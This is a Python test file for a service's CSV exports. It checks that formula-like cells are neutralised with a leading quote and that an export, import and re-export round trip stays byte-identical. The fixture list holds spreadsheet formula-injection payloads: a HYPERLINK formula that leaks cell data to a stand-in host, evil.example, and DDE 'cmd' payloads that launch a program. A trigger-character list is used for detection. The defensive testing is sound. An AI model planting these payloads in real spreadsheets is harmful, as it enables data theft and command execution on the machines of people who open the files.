"""CSV formula injection (OWASP): every CSV the API writes (assessment export, cohort CSV,
rubric matrix) neutralises cells a spreadsheet would run, and the bulk import undoes exactly
that, so export -> import -> export is byte-identical and the stored text unchanged."""

import csv
import io

import pytest

from service.auth import service as auth_service
from service.readiness import policies as readiness_policies
from service.readiness import specs as readiness_specs
from service.readiness.policies import ensure_default_policy
from service.rubrics import published as published_rubrics
from service.rubrics import service as rubrics_service
from service.settings import Settings
from service.tables import load_all
from tests.backends import truncate_all
from tests.factories.assessments import create_assessment, rate
from tests.factories.bulk import CSV, assessments, run_import
from tests.factories.people import sync_person
from tests.factories.rubrics import create_rubric, load_default_rubric, rubric_doc

pytestmark = pytest.mark.anyio

# What a spreadsheet would run, and text that legitimately looks like an escaped formula.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "'=already quoted by its author",
    "''+two quotes",
    "\tstarts with a tab",
    "it's plain text",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def settings(db_url, tmp_path) -> Settings:
    return Settings(database_url=db_url, bulk_spool_dir=tmp_path / "spool",
                    webhooks_worker=False)


async def load_ladder(engine) -> None:
    from service.db import open_session

    await load_default_rubric(engine)
    with open_session(engine, write=True) as session:
        ensure_default_policy(session)
        session.commit()


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_inert(text: str) -> None:
    """No cell of the CSV starts with a character a spreadsheet takes as a formula."""
    live = [cell for cell in cells(text) if cell.startswith(TRIGGERS)]
    assert live == [], live


@pytest.fixture
async def rated(admin, engine, db_url):
    """One person whose name, org unit, cycle and evidence are formula-like, rated and
    submitted (so the cohort CSV has them too)."""
    await load_ladder(engine)
    await sync_person(admin, "E1", display_name=FORMULAS[0], org_unit=FORMULAS[1])
    assessment = await create_assessment(admin, "E1", sync=False, cycle="=1+1 cycle")
    rubric = (await admin.get("/v1/rubrics/product-leadership")).json()
    items = [{"competency": c["key"], "proficiency": 3, "evidence": text}
             for c, text in zip(rubric["competencies"], FORMULAS, strict=False)]
    response = await rate(admin, assessment["id"], "manager", "E001", items)
    assert response.status_code == 200, response.text
    assert (await admin.post(f"/v1/assessments/{assessment['id']}/submit")).status_code == 200
    return assessment


async def test_the_assessment_export_neutralises_formulas(admin, rated):
    text = (await admin.get("/v1/assessments:export", params={"format": "csv"})).text
    assert_inert(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["display_name"] for r in rows} == {"'" + FORMULAS[0]}
    assert {r["org_unit"] for r in rows} == {"'" + FORMULAS[1]}
    assert {r["cycle"] for r in rows} == {"'=1+1 cycle"}
    evidence = {r["evidence"] for r in rows}
    assert "'-2+3" in evidence and "''=already quoted by its author" in evidence
    assert "it's plain text" in evidence  # nothing to neutralise: written as it is


async def test_export_import_export_is_byte_identical_and_keeps_the_text(
        app, admin, rated, engine, make_key, client_with):
    before = await assessments(admin)
    exported = (await admin.get("/v1/assessments:export", params={"format": "csv"})).content

    truncate_all(engine, load_all().metadata)
    auth_service._cache.clear()
    readiness_policies.clear_cache()
    readiness_specs.clear_cache()
    rubrics_service.clear_caches()
    published_rubrics.clear_cache()
    await load_ladder(engine)
    async with client_with(make_key("admin")) as fresh:
        job = await run_import(app, fresh, exported, CSV)
        assert (job["status"], job["failed"]) == ("succeeded", 0), job
        after = await assessments(fresh)
        again = (await fresh.get("/v1/assessments:export", params={"format": "csv"})).content
        person = (await fresh.get("/v1/people/E1")).json()
    assert again == exported
    assert sorted(r["evidence"] for r in after[0]["ratings"]) == sorted(FORMULAS)
    assert sorted(r["evidence"] for r in after[0]["ratings"]) == sorted(
        r["evidence"] for r in before[0]["ratings"])
    assert after[0]["cycle"] == "=1+1 cycle"
    assert (person["display_name"], person["org_unit"]) == (FORMULAS[0], FORMULAS[1])


async def test_the_cohort_csv_neutralises_formulas(admin, rated):
    text = (await admin.get("/v1/cohorts/readiness", params={"format": "csv"})).text
    assert_inert(text)
    assert "'=1+1 cycle" in cells(text)


async def test_the_rubric_matrix_neutralises_formulas(admin):
    doc = rubric_doc()
    doc["competencies"][0]["name"] = FORMULAS[0]
    doc["competencies"][1]["name"] = "@SUM(A1:A9)"
    await create_rubric(admin, doc)
    text = (await admin.get("/v1/rubrics/eng-ladder/export", params={"format": "csv"})).text
    assert_inert(text)
    assert {"'" + FORMULAS[0], "'@SUM(A1:A9)"} <= set(cells(text))


def test_the_cell_rule_round_trips_every_text():
    from service import csv_cells

    for text in [*FORMULAS, "", "'", "''", "'a", "'''", "\r", "'\r", "=", "a=b", "1e5", "-"]:
        written = csv_cells.write_cell(text)
        assert csv_cells.read_cell(written) == text, text
        assert not written.startswith(TRIGGERS), text
    assert csv_cells.write_cell(-2) == -2  # numbers are not text a spreadsheet would run
